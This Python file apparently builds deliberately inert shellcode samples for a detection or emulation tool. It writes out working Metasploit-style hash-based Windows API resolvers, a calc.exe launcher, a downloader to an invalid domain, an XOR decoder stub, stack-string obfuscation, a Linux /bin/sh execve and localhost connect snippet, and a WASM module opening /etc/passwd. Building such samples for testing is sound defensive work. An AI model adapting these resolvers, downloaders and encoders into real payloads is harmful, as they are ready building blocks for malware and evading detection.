"""Inert shellcode, put together here: it finds functions of Windows as published code does, by hashes of their names.

What it would start is the calculator, what it would fetch lies in a domain that cannot exist.
"""

from __future__ import annotations

import executables
from emulated import assembled
from wasmtime import wat2wasm

RESOLVER = """
    cld; call start; api_call: pushad; mov ebp, esp; xor eax, eax; mov edx, fs:[eax+0x30]; mov edx, [edx+0xc];
    mov edx, [edx+0x14]; next_mod: mov esi, [edx+0x28]; movzx ecx, word ptr [edx+0x26]; xor edi, edi;
    loop_modname: xor eax, eax; lodsb; cmp al, 0x61; jl not_lower; sub al, 0x20; not_lower: ror edi, 13;
    add edi, eax; loop loop_modname; push edx; push edi; mov edx, [edx+0x10]; mov eax, [edx+0x3c]; add eax, edx;
    mov eax, [eax+0x78]; test eax, eax; jz get_next_mod1; add eax, edx; push eax; mov ecx, [eax+0x18];
    mov ebx, [eax+0x20]; add ebx, edx; get_next_func: jecxz get_next_mod; dec ecx; mov esi, [ebx+ecx*4];
    add esi, edx; xor edi, edi; loop_funcname: xor eax, eax; lodsb; ror edi, 13; add edi, eax; cmp al, ah;
    jne loop_funcname; add edi, [ebp-8]; cmp edi, [ebp+0x24]; jnz get_next_func; pop eax; mov ebx, [eax+0x24];
    add ebx, edx; mov cx, [ebx+2*ecx]; mov ebx, [eax+0x1c]; add ebx, edx; mov eax, [ebx+4*ecx]; add eax, edx;
    mov [esp+0x24], eax; pop ebx; pop ebx; popad; pop ecx; pop edx; push ecx; jmp eax; get_next_mod: pop eax;
    get_next_mod1: pop edi; pop edx; mov edx, [edx]; jmp next_mod;
    start: pop ebp;
"""
"""Leaves its address in `ebp`: whoever pushes arguments and a hash, and calls it, calls the function."""

WIDE_RESOLVER = """
    cld; and rsp, 0xfffffffffffffff0; call start; push r9; push r8; push rdx; push rcx; push rsi; xor rdx, rdx;
    mov rdx, gs:[rdx+0x60]; mov rdx, [rdx+0x18]; mov rdx, [rdx+0x20]; next_mod: mov rsi, [rdx+0x50];
    movzx rcx, word ptr [rdx+0x4a]; xor r9, r9; loop_modname: xor rax, rax; lodsb; cmp al, 0x61; jl not_lower;
    sub al, 0x20; not_lower: ror r9d, 13; add r9d, eax; loop loop_modname; push rdx; push r9;
    mov rdx, [rdx+0x20]; mov eax, [rdx+0x3c]; add rax, rdx; mov eax, [rax+0x88]; test rax, rax;
    jz get_next_mod1; add rax, rdx; push rax; mov ecx, [rax+0x18]; mov r8d, [rax+0x20]; add r8, rdx;
    get_next_func: jrcxz get_next_mod; dec rcx; mov esi, [r8+rcx*4]; add rsi, rdx; xor r9, r9; loop_funcname:
    xor rax, rax; lodsb; ror r9d, 13; add r9d, eax; cmp al, ah; jne loop_funcname; add r9, [rsp+8];
    cmp r9d, r10d; jnz get_next_func; pop rax; mov r8d, [rax+0x24]; add r8, rdx; mov cx, [r8+2*rcx];
    mov r8d, [rax+0x1c]; add r8, rdx; mov eax, [r8+4*rcx]; add rax, rdx; pop r8; pop r8; pop rsi; pop rcx;
    pop rdx; pop r8; pop r9; pop r10; sub rsp, 32; push r10; jmp rax; get_next_mod: pop rax; get_next_mod1:
    pop r9; pop rdx; mov rdx, [rdx]; jmp next_mod;
    start: pop rbp;
"""
LINUX_SHELL = """
    xor rsi, rsi; push rsi; mov rdi, 0x68732f2f6e69622f; push rdi; push rsp; pop rdi; push 59; pop rax; cdq; syscall
"""
LINUX_CONNECT = """
    push 41; pop rax; push 2; pop rdi; push 1; pop rsi; cdq; syscall; xchg rax, rdi;
    mov rcx, 0x0100007f5c110002; push rcx; push rsp; pop rsi; push 16; pop rdx; push 42; pop rax; syscall;
    push 60; pop rax; syscall
"""


def ror13(text: bytes) -> int:
    value = 0
    for byte in text:
        value = ((value >> 13 | value << 19) + byte) & 0xFFFFFFFF
    return value


def api_hash(library: str, function: str) -> int:
    """Of both names, as Metasploit has it."""
    return (ror13((library.upper() + "\0").encode("utf-16le")) + ror13(function.encode() + b"\0")) & 0xFFFFFFFF


def call(library: str, function: str) -> str:
    return f"push {api_hash(library, function):#x}; call ebp; "


def wide_call(library: str, function: str) -> str:
    return f"mov r10d, {api_hash(library, function):#x}; call rbp; "


EXIT = "push 0; " + call("kernel32.dll", "ExitProcess")


def with_data(text: str, bits: int, data: bytes) -> bytes:
    """Code in which DATA is the distance from the resolver's address to the data behind the code."""
    before = 6 if bits == 32 else 10
    length = len(assembled(text.replace("DATA", "0x400"), bits))
    return assembled(text.replace("DATA", str(length - before)), bits) + data


def starts_program() -> bytes:
    text = "push 1; lea eax, [ebp + DATA]; push eax; " + call("kernel32.dll", "WinExec") + EXIT
    return with_data(RESOLVER + text, 32, b"calc.exe\0")


def starts_program_wide() -> bytes:
    text = "mov edx, 1; lea rcx, [rbp + DATA]; " + wide_call("kernel32.dll", "WinExec")
    text += "xor ecx, ecx; " + wide_call("kernel32.dll", "ExitProcess")
    return with_data(WIDE_RESOLVER + text, 64, b"calc.exe\0")


def downloads() -> bytes:
    """The library's name is put together on the stack."""
    text = "push 0x6e6f; push 0x6d6c7275; push esp; " + call("kernel32.dll", "LoadLibraryA")
    text += "xor edx, edx; push edx; push edx; lea eax, [ebp + DATA]; push eax; lea eax, [ebp + DATA + 26]; push eax; "
    text += "push edx; " + call("urlmon.dll", "URLDownloadToFileA") + EXIT
    return with_data(RESOLVER + text, 32, b"C:\\Users\\Public\\inert.exe\0http://example.invalid/a\0")


def encoded(code: bytes, key: int = 0x11223344) -> bytes:
    """Behind a stub that asks the floating-point unit for its address and decodes what follows, four bytes a turn."""
    code += b"\x90" * (-len(code) % 4)
    words = [int.from_bytes(code[at : at + 4], "little") ^ key for at in range(0, len(code), 4)]
    text = "fldz; fnstenv [esp - 12]; pop ebx; add ebx, SIZE; mov ecx, COUNT; "
    text += "l: xor dword ptr [ebx], KEY; add ebx, 4; loop l"
    text = text.replace("COUNT", str(len(words))).replace("KEY", hex(key))
    size = len(assembled(text.replace("SIZE", "26"), 32))
    return assembled(text.replace("SIZE", str(size)), 32) + b"".join(word.to_bytes(4, "little") for word in words)


def stack_strings() -> bytes:
    """A function that writes a text to the stack byte by byte, and one that decodes another on it."""
    name = "".join(f"mov byte ptr [ebp - {32 - at}], {byte}; " for at, byte in enumerate(b"kernel32.dll\0"))
    first = f"push ebp; mov ebp, esp; sub esp, 64; {name} lea eax, [ebp - 32]; push eax; call ebx; leave; ret; "
    hidden = bytes(byte ^ 0x5A for byte in b"http://files.athena-lab-sample.net/gate\0")
    hidden += b"\x5a" * (-len(hidden) % 4)
    words = [int.from_bytes(hidden[at : at + 4], "little") for at in range(0, len(hidden), 4)]
    moves = "".join(f"mov dword ptr [ebp - {64 - 4 * at}], {word:#x}; " for at, word in enumerate(words))
    second = f"push ebp; mov ebp, esp; sub esp, 128; {moves} mov ecx, {len(hidden)}; lea esi, [ebp - 64]; "
    second += "l: xor byte ptr [esi], 0x5a; inc esi; loop l; lea eax, [ebp - 64]; push eax; call ebx; leave; ret"
    begin = "call first; call second; ret; "
    return assembled(f"{begin} first: {first} second: {second}", 32)


def program() -> bytes:
    """A PE32 whose functions make texts."""
    made = executables.Pe()
    made.sections = [executables.PeSection(b".text", executables.CODE, stack_strings())]
    return made.build()


def guest() -> bytes:
    """WebAssembly that opens a file by an import, and has a loop without end."""
    return bytes(
        wat2wasm(
            """(module (import "wasi_snapshot_preview1" "path_open" (func $open (param i32 i32) (result i32)))
            (memory (export "memory") 1) (data (i32.const 8) "/etc/passwd")
            (func (export "_start") i32.const 8 i32.const 11 call $open drop) (func (export "spin") (loop br 0)))"""
        )
    )


def samples() -> dict[str, bytes]:
    return {
        "shellcode32": starts_program(),
        "shellcode64": starts_program_wide(),
        "shellcode-encoded": encoded(encoded(downloads()), 0xDEADBEEF),
        "shellcode-linux": assembled(LINUX_CONNECT, 64),
        "program-texts": program(),
        "guest": guest(),
    }
